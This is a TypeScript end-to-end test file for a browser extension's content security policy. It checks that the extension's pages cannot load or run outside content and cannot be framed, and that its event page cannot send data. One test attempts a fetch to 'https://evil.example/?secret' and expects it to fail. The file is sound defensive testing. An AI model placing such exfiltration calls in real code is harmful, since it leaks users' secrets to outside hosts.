import { attempts, watched } from '../e2e/pages/attempts';
import type { Tab } from './tab';
import { expect, test } from './test';

/** Firefox sees to the policy for objects, Chromium asks for a trusted type first. */
const directiveOf = (directive: string, attempt: string) =>
  attempt.includes("put('object'") ? 'object-src' : directive;

test('the browser lets a page of the extension load, send and run nothing from elsewhere', async ({
  fresh,
}) => {
  for (const path of ['popup.html#/vendor/fal', 'directory.html', 'options.html', 'welcome.html']) {
    const page = await fresh.openOwn(path);
    for (const [directive, attempt] of attempts) {
      const expected = directiveOf(directive, attempt);
      expect(await violated(page, attempt), `${path}: ${attempt}`).toBe(expected);
    }
    expect(await page.run(() => 'ran' in globalThis)).toBe(false);
    await page.close();
  }
});

test('the event page can send nothing', async ({ fresh }) => {
  const own = await fresh.openOwn('options.html');
  const outcome = await own.run(async () => {
    const background = await browser.runtime.getBackgroundPage();
    return background?.fetch('https://evil.example/?secret').then(() => 'sent', String);
  });
  expect(outcome).toContain('NetworkError');
});

test('a page can not frame a page of the extension', async ({ fresh }) => {
  const page = await fresh.open('https://fal.ai/');
  const framed = async (address: string) => {
    await page.run(frame, address);
    return fresh.inWindow(addressOfFrame);
  };
  fresh.web.expect('slack.com');
  expect(await framed('https://slack.com/')).toBe('https://slack.com/');
  expect(await framed(`${await fresh.origin()}options.html`)).toBe('about:blank');
});

const violated = (page: Tab, attempt: string): Promise<string> =>
  // Made from text, as all that is sent to the browser.
  page.run({ toString: () => `() => ${watched(attempt)}` } as () => string);

/** Frames an address, and waits until that is shown or refused. */
async function frame(address: string): Promise<void> {
  document.querySelector('iframe')?.remove();
  const element = document.createElement('iframe');
  element.src = address;
  const settled = new Promise((done) => {
    element.addEventListener('load', done, { once: true });
    // What is refused says nothing.
    setTimeout(done, 2000);
  });
  document.body.append(element);
  await settled;
}

/** The page in the frame may be in a process of its own; the window around it knows it. */
function addressOfFrame(): string {
  const [framed] = gBrowser.selectedBrowser.browsingContext.children;
  return framed?.currentURI?.spec ?? '';
}
